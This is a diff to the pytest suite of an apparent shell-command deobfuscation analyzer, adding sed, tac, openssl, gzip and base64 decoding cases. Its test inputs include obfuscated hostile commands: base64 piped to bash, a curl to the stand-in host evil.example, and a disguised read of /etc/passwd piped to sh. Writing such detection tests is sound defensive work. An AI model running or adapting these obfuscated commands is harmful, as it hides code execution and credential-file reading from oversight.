@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import gzip
+import zlib
+
 import pytest
 
 from vedette.commands.base import Reading, Scope
@@ -131,12 +134,14 @@ def test_what_is_not_known_stays_as_written(text: str, word: str) -> None:
 
 def test_a_pipe_gives_the_shell_what_it_reads() -> None:
     made = reading("echo d2hvYW1p | base64 -d | bash")
-    assert [c.name.text for c in made.calls] == ["echo", "base64", "bash"]
-    bash = made.calls[2]
+    assert [c.name.text for c in made.calls] == ["base64", "bash"]
+    bash = made.calls[1]
     assert bash.stdin == b"whoami"
     assert bash.piped
     assert not bash.pipes
+    assert made.calls[0].piped
     assert made.calls[0].pipes
+    assert [(p.start, p.end) for p in made.parts if "next step" in p.meaning] == [(5, 13), (0, 4)]
     assert bash.name.methods == ("base64",)
     assert [(n.text, n.methods) for n in made.nested] == [("whoami", ("base64",))]
 
@@ -188,7 +193,7 @@ def test_pieces_of_what_is_put_together_are_not_shown() -> None:
     assert made.clear == "curl http://evil.example/x"
     assert [w.text for w in made.strings] == []
     made = reading("echo 'c@at /et@c/p@asswd' | tr -d @ | sh")
-    assert made.calls[0].args == []
+    assert [c.name.text for c in made.calls] == ["tr", "sh"]
 
 
 def test_process_substitution_and_here_string_hand_code_on() -> None:
@@ -238,13 +243,28 @@ def test_methods_are_many_and_each_is_named_once() -> None:
         ("printf", ["%s-%s\\n", "a", "b", "c"], None, b"a-b\nc-\n"),
         ("printf", ["\\x%s", "69"], None, b"\\x69"),
         ("echo", ["-e", "\\x69\\0144"], None, b"id\n"),
+        ("sed", [":a;N;$!ba;s/\\n/-/g"], b"a\nb\nc\n", b"a-b-c\n"),
+        ("sed", ["-e", ":a", "-e", "s/x//;ta"], b"axxb\n", b"ab\n"),
+        ("sed", ["/\\n/!G;s/\\(.\\)\\(.*\\n\\)/&\\2\\1/;//D;s/.//"], b"di\nab\n", b"id\nba\n"),
+        ("sed", ["s/.*/\\L&/"], b"ID\n", b"id\n"),
+        ("sed", ["s/\\(.\\)\\(.*\\)/\\u\\1\\U\\2\\E!/"], b"abc\n", b"ABC!\n"),
+        ("tac", ["-rs", "."], b"abc\nde\n", b"\ne\ndcba"),
+        ("tac", ["-r", "-s", "x\\|[^x]"], b"di", b"id"),
+        ("hexdump", ["-ve", '1/1 "%.2x"'], b"id", b"6964"),
+        ("openssl", ["zlib", "-d"], zlib.compress(b"id"), b"id"),
+        ("openssl", ["enc", "-zlib", "-d"], zlib.compress(b"id"), b"id"),
+        ("pigz", ["-dz"], zlib.compress(b"id"), b"id"),
+        ("gunzip", [], gzip.compress(b"id"), b"id"),
+        ("mimencode", ["-u"], b"aWQ=", b"id"),
+        ("b64decode", ["-r"], b"aWQ=", b"id"),
         ("seq", ["1", "2", "5"], None, b"1\n3\n5\n"),
         ("paste", ["-sd", ""], b"i\nd\n", b"id\n"),
         ("grep", ["-o", "[0-9]*"], b"a12b3\n", b"12\n3\n"),
         ("bc", [], b"obase=16; 255\n", b"FF\n"),
         ("dd", ["bs=1", "skip=1", "count=2"], b"xidy", b"id"),
         # what is not understood is not guessed
-        ("sed", [":a;N;ba"], b"x\n", None),
+        ("sed", ["s/a/b/e"], b"x\n", None),
+        ("sed", ["ba"], b"x\n", None),
         ("tr", ["-q", "a"], b"x", None),
         ("base64", ["--strange"], b"x", None),
         ("openssl", ["enc", "-d", "-des3", "-k", "x"], b"x", None),
